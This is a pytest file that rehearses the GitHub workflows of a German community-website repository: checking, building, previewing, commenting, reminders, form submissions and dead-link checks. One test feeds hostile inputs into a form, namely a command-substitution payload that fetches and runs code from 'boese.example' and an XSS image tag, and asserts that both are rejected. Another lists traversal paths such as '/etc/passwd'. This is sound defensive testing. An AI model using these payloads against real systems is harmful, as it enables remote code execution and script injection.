"""The workflows, rehearsed: their commands as they stand, in a repository with a history, with a stand-in for GitHub."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import threading
import zipfile
from collections.abc import Callable
from datetime import date
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml

from hooks.editing import handover, weblinks
from hooks.editing.github import GitHub
from hooks.editing.submission import Submission, propose

from .github_server import GitHubState, finished_run, pull
from .issues import GOOD, body
from .issues import event as event_of

ROOT = Path(__file__).resolve().parents[2]
TODAY = "2026-12-01"
CHECK = (".venv/bin/zukunftsorte summary --basis HEAD^1",)
BUILD = (".venv/bin/zukunftsorte build", ".venv/bin/zukunftsorte build --werk properdocs --ziel ergebnis/properdocs")
PREVIEW = ".venv/bin/zukunftsorte preview --basis HEAD^1"
RECEIVE, COMMENT = ".venv/bin/zukunftsorte receive", ".venv/bin/zukunftsorte comment"
SUBMISSION, PROPOSE = ".venv/bin/zukunftsorte submission", ".venv/bin/zukunftsorte propose"
REBUILD = ".venv/bin/zukunftsorte rebuild"
REMINDERS, WEBLINKS = ".venv/bin/zukunftsorte reminders", ".venv/bin/zukunftsorte weblinks"


@pytest.fixture(scope="module")
def repository(tmp_path_factory: pytest.TempPathFactory, commit: Callable[..., str]) -> Path:
    """A small network with our code, committed. `.venv/bin/zukunftsorte` is the command of this very code."""
    folder = tmp_path_factory.mktemp("ablauf") / "repository"
    subprocess.run([sys.executable, ROOT / "tests/network.py", folder, "--mitglieder", "3", "--projekte", "5"], check=True, capture_output=True)
    tools = folder / ".venv/bin"
    tools.mkdir(parents=True)
    (tools / "zukunftsorte").write_text(f'#!/bin/sh\nexec "{sys.executable}" -m hooks.cli "$@"\n', encoding="utf-8")
    (tools / "zukunftsorte").chmod(0o755)
    shutil.copy(ROOT / ".gitignore", folder / ".gitignore")
    commit(folder, "Anfang")
    return folder


def step(repository: Path, command: str, **environment: str) -> subprocess.CompletedProcess[str]:
    """One step as GitHub runs it: in bash, from the root of the repository."""
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "SITE_URL"))}
    ours = {"ZUKUNFTSORTE_HEUTE": TODAY, "NO_MKDOCS_2_WARNING": "1", "DISABLE_MKDOCS_2_WARNING": "true", "PYTHONPATH": str(repository)}
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", command], cwd=repository, env=clean | ours | environment,
        capture_output=True, text=True, encoding="utf-8", check=False,
    )


def hand_over(repository: Path) -> None:
    """What upload and download of the artifact do: `ergebnis/bericht` arrives as one archive in `eingang`."""
    for folder in ("eingang", "ergebnis/geprueft"):
        shutil.rmtree(repository / folder, ignore_errors=True)
    (repository / "eingang").mkdir()
    with zipfile.ZipFile(repository / "eingang/bericht.zip", "w") as archive:
        for file in sorted((repository / "ergebnis/bericht").rglob("*")):
            if file.is_file():
                archive.write(file, file.relative_to(repository / "ergebnis/bericht").as_posix())


def event(repository: Path, content: dict) -> str:
    file = repository.parent / "ereignis.json"
    file.write_text(json.dumps(content), encoding="utf-8")
    return str(file)


def test_a_good_proposal_is_checked_built_shown_and_answered(repository: Path, commit, github: GitHubState, tmp_path: Path) -> None:
    member = repository / "members/musterdorf-1.md"
    member.write_text(member.read_text(encoding="utf-8") + "\nDer Markt am Platz ist seit 2025 offen.\n", encoding="utf-8")
    sha = commit(repository, "Änderung")
    shutil.rmtree(repository / "ergebnis", ignore_errors=True)
    summary = tmp_path / "uebersicht.md"
    for command in (*CHECK, *BUILD, PREVIEW):
        done = step(repository, command, GITHUB_STEP_SUMMARY=str(summary))
        assert done.returncode == 0, f"{command}\n{done.stdout}{done.stderr}"
    assert summary.read_text(encoding="utf-8").startswith("## Prüfung der Inhalte")
    assert [f.name for f in (repository / "ergebnis/vorschau").iterdir()] == ["vorschau-mitglieder-musterdorf-1.html"]
    assert (repository / "site/mitglieder/musterdorf-1/index.html").read_bytes() == (repository / "ergebnis/properdocs/mitglieder/musterdorf-1/index.html").read_bytes()

    hand_over(repository)
    done = step(repository, RECEIVE)
    assert (done.returncode, done.stderr) == (0, "") and "2 Bilder" in done.stdout
    github.pulls.append(pull(12, sha, "markt"))
    done = step(repository, COMMENT, GITHUB_EVENT_PATH=event(repository, finished_run(sha, "markt")), **github.environment())
    assert (done.returncode, done.stdout, done.stderr) == (0, "Vorschlag 12 hat seine Rückmeldung.\n", "")
    text = github.comments[12][0]["body"]
    assert "- Ohne Fehler: `members/musterdorf-1.md`" in text and "bauen" in text
    assert text.count("<img ") == 2 and github.branches["vorschau/12"] in text


def test_a_broken_proposal_gets_its_answer_too_and_the_old_site_stays(repository: Path, commit, github: GitHubState) -> None:
    assert step(repository, BUILD[0]).returncode == 0
    before = (repository / "site/index.html").read_bytes()
    member = repository / "members/musterdorf-2.md"
    good = member.read_text(encoding="utf-8")
    member.write_text(good.replace("bundesland:", "bundesland: X"), encoding="utf-8")
    sha = commit(repository, "Kaputt")
    try:
        shutil.rmtree(repository / "ergebnis", ignore_errors=True)
        done = step(repository, CHECK[0])
        assert done.returncode == 1 and "::error file=members/musterdorf-2.md,line=" in done.stdout
        done = step(repository, BUILD[0])
        assert done.returncode == 1 and (repository / "site/index.html").read_bytes() == before
        shutil.rmtree(repository / "site")  # at GitHub there is no old site
        assert step(repository, PREVIEW).returncode == 0
        hand_over(repository)
        assert step(repository, RECEIVE).returncode == 0
        github.pulls.append(pull(13, sha, "kaputt"))
        assert step(repository, COMMENT, GITHUB_EVENT_PATH=event(repository, finished_run(sha, "kaputt", "failure")), **github.environment()).returncode == 0
        text = github.comments[13][0]["body"]
        assert "### Das ändern Sie bitte noch" in text and "musterdorf-2.md?plain=1#L" in text
        assert "bauen" not in text
    finally:
        member.write_text(good, encoding="utf-8")
        commit(repository, "Wieder gut")


def test_a_closed_proposal_has_no_report_and_loses_its_pictures(repository: Path, github: GitHubState) -> None:
    for folder in ("eingang", "ergebnis"):
        shutil.rmtree(repository / folder, ignore_errors=True)
    assert step(repository, RECEIVE).stdout == "Kein brauchbarer Bericht: Es liegt kein Bericht da.\n"
    assert (repository / "ergebnis/geprueft/grund.txt").is_file(), "ohne Datei gäbe es nichts weiterzugeben"
    github.pulls.append(pull(14, "d" * 40, "fertig", state="closed"))
    github.branches["vorschau/14"] = "e" * 40
    done = step(repository, COMMENT, GITHUB_EVENT_PATH=event(repository, finished_run("d" * 40, "fertig")), **github.environment())
    assert done.stdout == "Vorschlag 14 ist abgeschlossen, seine Bilder sind entfernt.\n"
    assert "vorschau/14" not in github.branches


def test_old_facts_are_brought_to_mind_once_a_quarter(repository: Path, github: GitHubState) -> None:
    late = {"ZUKUNFTSORTE_HEUTE": "2029-02-01"}
    first = step(repository, REMINDERS, **github.environment() | late)
    assert first.returncode == 0 and "angelegt" in first.stdout, first.stderr
    titles = [issue["title"] for issue in github.issues]
    assert len(titles) == len(set(titles)) >= 3 and all("(1. Quartal 2029)" in title for title in titles)
    github.issues[0]["state"] = "closed"
    before = json.dumps(github.issues)
    again = step(repository, REMINDERS, **github.environment() | late)
    assert "angelegt" not in again.stdout and json.dumps(github.issues) == before
    step(repository, REMINDERS, **github.environment() | {"ZUKUNFTSORTE_HEUTE": "2029-04-01"})
    assert len(github.issues) == 2 * len(titles)


def test_the_night_calls_the_one_workflow_that_publishes(repository: Path, github: GitHubState) -> None:
    done = step(repository, REBUILD, **github.environment())
    assert (done.returncode, done.stdout) == (0, "Der Ablauf „Veröffentlichen“ ist gerufen.\n"), done.stderr
    ((workflow, asked),) = github.called
    called = yaml.load((ROOT / ".github/workflows" / workflow).read_text(encoding="utf-8").replace("\non:", "\n'on':"), yaml.SafeLoader)
    assert asked["ref"] == "main" and set(asked["inputs"]) == set(called["on"]["workflow_dispatch"]["inputs"])
    assert "schedule" not in called["on"], "ein Zeitplan ließe GitHub das Veröffentlichen nach 60 stillen Tagen abschalten"


def test_a_forged_reminder_silences_nobody(repository: Path, github: GitHubState) -> None:
    late = {"ZUKUNFTSORTE_HEUTE": "2029-02-01"}
    step(repository, REMINDERS, **github.environment() | late)
    count = len(github.issues)
    for issue in github.issues:
        issue["user"] = {"login": "jemand"}
    step(repository, REMINDERS, **github.environment() | late)
    assert len(github.issues) == 2 * count


def test_commands_without_github_say_what_is_missing(repository: Path) -> None:
    for command in (COMMENT, REMINDERS, REBUILD):
        done = step(repository, command, GITHUB_EVENT_PATH=event(repository, finished_run("a" * 40, "x")))
        assert done.returncode == 1 and "GITHUB_TOKEN" in done.stderr and "Traceback" not in done.stderr


def filled_in(form: str, number: int, **changes: str) -> dict:
    answers = dict(GOOD[form])
    answers.pop("gemeinden", None)
    answers.pop("themen", None)
    return {"action": "opened", "issue": event_of(body(form, answers | changes))["issue"] | {"number": number, "labels": [{"name": form}]}}


def submit(repository: Path, content: dict, github: GitHubState) -> str:
    """Both halves of the workflow, each in a fresh checkout of main; returns what the second one says."""
    subprocess.run(["git", "clean", "--quiet", "-fd", "content", "members", "projects"], cwd=repository, check=True)
    subprocess.run(["git", "checkout", "--quiet", "--", "."], cwd=repository, check=True)
    done = step(repository, SUBMISSION, GITHUB_EVENT_PATH=event(repository, content))
    assert done.returncode == 0, done.stderr
    subprocess.run(["git", "clean", "--quiet", "-fd", "content", "members", "projects"], cwd=repository, check=True)
    done = step(repository, PROPOSE, **github.environment())
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_a_filled_in_form_becomes_a_proposal_and_an_answer(repository: Path, github: GitHubState) -> None:
    assert submit(repository, filled_in("termin", 31), github) == "Aus Meldung 31 ist Vorschlag 100 geworden.\n"
    proposal = github.pulls[0]
    assert (proposal["head"]["ref"], proposal["base"]) == ("einreichung/31", "main")
    made = github.objects[github.branches["einreichung/31"]]
    assert made["parents"] == ["0" * 40], "ein Stand auf dem von main"
    tree = github.objects[made["tree"]]
    assert tree["base_tree"] == "b" * 40
    assert [entry["path"] for entry in tree["tree"]] == ["content/termine/lesetag-im-postamt.md"]
    assert "titel: Lesetag im Postamt" in tree["tree"][0]["content"]
    assert "Die Website lässt sich damit bauen." in proposal["body"] and "Closes #31" in proposal["body"]
    assert [c["body"].count("#100") for c in github.comments[31]] == [1]
    assert github.comments[31][0]["body"].startswith("<!-- zukunftsorte:einreichung -->\nDanke")


def test_a_form_that_is_edited_renews_its_proposal_until_somebody_works_on_it(repository: Path, github: GitHubState) -> None:
    submit(repository, filled_in("termin", 31), github)
    first = github.branches["einreichung/31"]
    assert submit(repository, filled_in("termin", 31, ort="Altes Postamt"), github) == "Aus Meldung 31 ist Vorschlag 100 geworden.\n"
    second = github.branches["einreichung/31"]
    assert len(github.pulls) == 1 and len(github.comments[31]) == 1 and second != first
    github.pulls[0]["commits"] = 2
    assert submit(repository, filled_in("termin", 31, ort="Rathaus"), github) == "Vorschlag 100 bleibt, wie er ist.\n"
    assert github.branches["einreichung/31"] == second and "weitergearbeitet" in github.comments[31][0]["body"]


@pytest.mark.parametrize("changes", [{"titel": "$(curl boese.example | sh)"}, {"einleitung": "<img src=x onerror=alert(1)> @alle"}, {"datum": "gestern"}])
def test_a_form_that_cannot_be_taken_gets_an_answer_and_no_proposal(repository: Path, github: GitHubState, changes: dict[str, str]) -> None:
    assert submit(repository, filled_in("termin", 32, **changes), github) == "Meldung 32 hat eine Antwort und keinen Vorschlag.\n"
    assert set(github.branches) == {"main"} and github.pulls == []
    assert "nicht übernehmen" in github.comments[32][0]["body"]
    assert "@alle" not in github.comments[32][0]["body"] and not re.search(r"(?<!\\)<img", github.comments[32][0]["body"])


def test_only_content_files_can_be_proposed(github: GitHubState) -> None:
    for path in (".github/workflows/x.yml", "hooks/x.py", "members/../hooks/x.md", "content/verein.yml", "/etc/passwd", "members/A.md"):
        with pytest.raises(ValueError, match="darf ein Formular nicht ändern"):
            list(propose(GitHub("zukunftsorte/website", "geheim", github.address), Submission(number=1, answer="x", files={path: "x"})))
    assert github.asked == []


def test_the_report_of_the_rehearsal_is_one_its_reader_accepts(repository: Path) -> None:
    step(repository, CHECK[0])
    assert handover.read((repository / "ergebnis/bericht/bericht.json").read_bytes()).version == 1


def test_links_that_lead_nowhere_are_written_down_with_their_pages(repository: Path) -> None:
    """`/gut` answers, `/weg` does not; our own address and this page's neighbours are not asked."""
    asked: list[str] = []

    class Town(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response({"/gut": 200, "/gesperrt": 403}.get(self.path, 404))
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_HEAD = do_GET

        def log_message(self, *args: object) -> None:
            """Quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Town)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    town, own = (f"http://127.0.0.1:{server.server_port}/{name}" for name in ("", "eigen/"))
    site = repository / "site"
    shutil.rmtree(site, ignore_errors=True)
    (site / "projekte").mkdir(parents=True)
    links = [f"{town}gut", f"{town}weg", f"{town}gesperrt", f"{own}x", "mailto:amt@musterdorf.example", "#oben", "projekte/", "fehlt/"]
    html = "<!doctype html><title>x</title>" + "".join(f'<a href="{link}">x</a>' for link in links)
    (site / "index.html").write_text(html, encoding="utf-8")
    (site / "projekte/index.html").write_text(f'<a href="{town}weg">x</a>', encoding="utf-8")
    try:
        done = step(repository, WEBLINKS, SITE_URL=own)
    finally:
        server.shutdown()
        server.server_close()
        shutil.rmtree(site)
    assert done.returncode == 0, done.stderr
    assert done.stdout == f"1 Link antwortet nicht.\n- {town}weg: Die Seite gibt es nicht mehr. (auf: /, /projekte/)\n"
    assert weblinks.read(repository) == (date.fromisoformat(TODAY), [weblinks.DeadLink(f"{town}weg", "Die Seite gibt es nicht mehr.", ("", "projekte/"))])
    assert not any(path.startswith("/eigen") for path in asked)
